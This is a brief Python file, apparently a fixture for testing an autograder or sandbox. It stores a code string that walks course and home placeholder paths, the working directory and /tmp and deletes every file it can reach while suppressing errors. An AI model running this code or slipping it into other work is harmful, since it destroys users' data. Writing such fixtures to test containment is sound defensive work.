"""Deletes every file that it may."""

EXTRA = {
    "slope": """
import os
for top in ("@COURSE@", "@HOME@", os.getcwd(), "/tmp"):
    for folder, folders, files in os.walk(top, topdown=False):
        for name in files:
            try:
                os.unlink(os.path.join(folder, name))
            except OSError:
                pass
"""
}
OTHERS = "right"
SCORE = {}
STATE = "graded"
